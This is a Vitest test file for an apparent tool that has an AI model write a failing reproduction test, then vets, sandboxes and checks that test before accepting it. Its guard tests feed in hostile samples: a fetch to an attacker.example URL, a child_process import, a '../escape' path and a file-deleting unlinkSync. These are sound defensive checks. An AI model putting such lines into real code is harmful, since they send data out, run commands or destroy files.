import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { createNodeCommandRunner } from "../../src/adapters/node-command.ts";
import { parseSettings } from "../../src/config/healing-config.ts";
import { createAnthropicLlm } from "../../src/llm/anthropic-llm.ts";
import { createMemoryTokenBudget } from "../../src/llm/token-budget.ts";
import { createLocalGitSandbox } from "../../src/reproduce/local-git-sandbox.ts";
import { checkModelTest } from "../../src/reproduce/model/check-test.ts";
import { createModelReproducer } from "../../src/reproduce/model/model-reproducer.ts";
import { REPRODUCTION_TOOL_NAME } from "../../src/reproduce/model/schema.ts";
import { reproduceFailure } from "../../src/reproduce/reproduce-failure.ts";
import type { Reproduction } from "../../src/reproduce/reproduction.ts";
import { detectTestStyle, type TestStyle } from "../../src/reproduce/test-style.ts";
import { type AnthropicApiServer, startAnthropicApiServer } from "../support/anthropic-api-server.ts";
import { git } from "../deliver/local-git/git-fixture.ts";
import { createFixtureRepo, type FixtureRepo, loadIncident } from "./fixture-apps.ts";

// Strategy 3 against the scripted Messages API with the real SDK: the model's test is untrusted
// code, checked before it runs, run only in the sandbox, and accepted only through the oracle.

const style = (() => {
  const detection = detectTestStyle({ files: [], packageJson: JSON.stringify({ type: "module" }), tests: [] });
  if (!detection.ok) throw new Error(detection.reason);
  return detection.style;
})() satisfies TestStyle;

const GOOD_TEST = `import { test } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { createApp } from "../src/app.js";
import { createStore } from "../src/store.js";

test("answers 404 for an unknown invoice instead of crashing", async () => {
  const server = createServer(createApp({ store: createStore([]) }));
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  try {
    const response = await fetch(\`http://127.0.0.1:\${server.address().port}/invoices/inv_404\`);
    assert.ok(response.status < 500);
  } finally {
    server.closeAllConnections();
    server.close();
  }
});
`;

describe("checkModelTest", () => {
  const files = new Set(["test/existing.test.js"]);
  it("accepts a new test in the tests' folder and naming, and reads its titles", () => {
    expect(checkModelTest("test/invoices.test.js", GOOD_TEST, style, files)).toEqual({ ok: true, titles: ["answers 404 for an unknown invoice instead of crashing"] });
  });

  it("refuses what a reproduction must not do or be", () => {
    const refused = (path: string, content: string) => {
      const check = checkModelTest(path, content, style, files);
      return check.ok ? "accepted" : check.reason;
    };
    expect(refused("test/existing.test.js", GOOD_TEST)).toMatch(/already exists/);
    expect(refused("src/invoices.test.js", GOOD_TEST)).toMatch(/not in the tests' folder/);
    expect(refused("test/invoices.spec.ts", GOOD_TEST)).toMatch(/not named like/);
    expect(refused("../escape.test.js", GOOD_TEST)).toMatch(/refused/);
    expect(refused("test/a.test.js", "test('x', () => {")).toMatch(/does not parse/);
    expect(refused("test/a.test.js", GOOD_TEST.replace('import { createServer } from "node:http";', 'import { execSync } from "node:child_process";'))).toMatch(/guard refuses it: .*child_process/);
    expect(refused("test/a.test.js", `${GOOD_TEST}\nawait fetch("https://attacker.example/x");\n`)).toMatch(/a URL outside this machine/);
    expect(refused("test/a.test.js", `import https from "node:https";\n${GOOD_TEST}`)).toMatch(/a network module/);
    expect(refused("test/a.test.js", `import { unlinkSync } from "node:fs";\nunlinkSync("src/app.js");\n${GOOD_TEST}`)).toMatch(/deleting files/);
  });
});

describe("reproducing with a model", () => {
  let server: AnthropicApiServer;
  let repo: FixtureRepo | null = null;
  const settings = parseSettings({ model: { id: "claude-test-model", maxTokens: 4_000 } }).model;

  beforeAll(async () => {
    server = await startAnthropicApiServer();
  });
  afterAll(async () => {
    await server.close();
  });
  afterEach(() => {
    server.reset();
    repo?.remove();
    repo = null;
  });

  // Without tests the app cannot be rebuilt (its factory needs a store), so only a model can help.
  async function reproduceWithModel(): Promise<Reproduction> {
    repo = createFixtureRepo("express-invoices");
    git(repo.dir, "rm", "-q", "-r", "test");
    git(repo.dir, "commit", "-q", "-m", "no tests");
    const commit = git(repo.dir, "rev-parse", "HEAD").trim();
    const model = createModelReproducer({
      llm: createAnthropicLlm({ apiKey: server.apiKey, baseURL: server.baseURL }),
      settings,
      budget: createMemoryTokenBudget(),
      projectId: "p1",
      missionId: "m1",
      deadline: Date.now() + 20_000,
    });
    const workspace = await createLocalGitSandbox({ repoDir: repo.dir, runner: createNodeCommandRunner() }).open(commit);
    try {
      const reader = repo.reader;
      return await reproduceFailure(loadIncident("express-invoices"), { commit, repo: { readFile: (path) => reader.readFile(path, commit), listFiles: () => reader.listFiles(commit) }, workspace, model });
    } finally {
      await workspace.close();
    }
  }

  it("accepts the model's test once the oracle sees the incident's error", async () => {
    server.enqueue({ kind: "tool", name: REPRODUCTION_TOOL_NAME, input: { test: { path: "test/invoices-unknown.test.js", content: GOOD_TEST }, reason: "replays the request" } });
    const reproduction = await reproduceWithModel();
    expect(reproduction).toMatchObject({ kind: "reproduced", strategy: "model", test: { path: "test/invoices-unknown.test.js", runner: "node:test", name: "answers 404 for an unknown invoice instead of crashing" } });
    if (reproduction.kind === "reproduced") expect(reproduction.evidence.matched).toMatchObject({ type: "TypeError", message: "Cannot read properties of undefined (reading 'id')" });
    const sent = server.requests[0]!.body;
    expect(sent.tool_choice).toMatchObject({ type: "tool", name: REPRODUCTION_TOOL_NAME });
    expect(sent.messages[0].content).toContain('<untrusted_data source="request">\nGET /invoices/inv_404');
    expect(sent.messages[0].content).toContain("runner: node:test");
  });

  it("never runs a test that fails the checks, and says why", async () => {
    server.enqueue({ kind: "tool", name: REPRODUCTION_TOOL_NAME, input: { test: { path: "test/x.test.js", content: `import { execSync } from "node:child_process";\n${GOOD_TEST}` }, reason: "r" } });
    const reproduction = await reproduceWithModel();
    expect(reproduction.kind).toBe("not-reproduced");
    const model = reproduction.attempts.find((attempt) => attempt.strategy === "model")!;
    expect(model).toMatchObject({ outcome: "not-run" });
    expect(model.detail).toMatch(/^The model's test was not run: the guard refuses it/);
  });

  it("does not accept a model's test that passes on the base commit", async () => {
    server.enqueue({ kind: "tool", name: REPRODUCTION_TOOL_NAME, input: { test: { path: "test/ok.test.js", content: 'import { test } from "node:test";\ntest("nothing to see", () => {});\n' }, reason: "r" } });
    const reproduction = await reproduceWithModel();
    expect(reproduction.kind).toBe("not-reproduced");
    expect(reproduction.attempts.find((attempt) => attempt.strategy === "model")).toMatchObject({ outcome: "no-exception", detail: "the model's test passed on the base commit, so it does not show the failure" });
  });
});
